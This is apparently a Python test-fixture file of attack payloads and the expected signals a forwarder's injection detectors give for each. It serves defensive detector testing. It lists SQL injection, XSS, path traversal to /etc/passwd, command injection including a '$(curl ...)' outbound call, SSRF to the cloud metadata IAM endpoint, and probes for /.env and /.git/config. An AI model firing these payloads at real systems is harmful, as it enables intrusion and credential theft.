"""What attackers send into parameters, and the signals that the forwarder's detectors give for it.

``tests/sandbox/test_campaigns_forwarder.py`` sends all of it through the forwarder: when a detector's verdict changes,
change it here too.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """``text`` as typed; ``signals``: detector, family, score."""

    text: str
    signals: tuple[tuple[str, str, float], ...] = ()


def said(payload: Payload, where: str) -> str:
    """Return the event's ``signals`` of a payload at a place."""
    if not payload.signals:
        return ""
    listed = ",".join(
        f'{{"detector":"injection.{detector}","family":"{family}","where":"{where}","score":{score}}}'
        for detector, family, score in payload.signals
    )
    return f',"signals":[{listed}]'


DEV = (
    Payload("1' OR '1'='1", (("sqli", "sqli", 0.95),)),
    Payload("x' UNION SELECT login,hash FROM staff--", (("sqli", "sqli", 0.995),)),
    Payload("1; WAITFOR DELAY '0:0:5'--", (("sqli", "sqli", 0.996),)),
    Payload("'><script>alert(document.cookie)</script>", (("xss", "xss", 1.0),)),
    Payload('"><img src=x onerror=alert(1)>', (("xss", "xss", 0.997),)),
    Payload("../../../../etc/passwd", (("path_traversal", "files", 0.999),)),
    Payload("; cat /etc/passwd", (("command", "command", 0.85), ("path_traversal", "files", 0.6))),
    Payload("$(curl 198.51.100.9)", (("command", "command", 0.85),)),
    Payload("{{7*7}}", (("template", "template", 0.9),)),
    Payload("1' AND SLEEP(5)#", (("sqli", "sqli", 0.96),)),
)
_INCLUDED = ("inclusion", "files", 0.55)
DEV_LINKS = (
    Payload("http://169.254.169.254/latest/meta-data/iam/", (("ssrf", "ssrf", 0.995), _INCLUDED)),
    Payload("http://localhost:8080/admin", (("ssrf", "ssrf", 0.75),)),
    Payload("http://127.0.0.1:6379/", (("ssrf", "ssrf", 0.9), _INCLUDED)),
    Payload("file:///etc/passwd", (("path_traversal", "files", 0.976),)),
)
_FILE = (("path_traversal", "files", 0.8),)
DEV_PATHS = (
    *(Payload(path, _FILE) for path in ("/.env", "/.git/config")),
    Payload("/phpinfo.php", (("php", "code", 0.925),)),
    *map(Payload, ("/admin", "/actuator/env", "/swagger.json", "/api-docs", "/debug", "/console", "/backup.zip",
                   "/internal/status", "/server-status", "/metrics", "/test", "/old")),
)  # fmt: skip
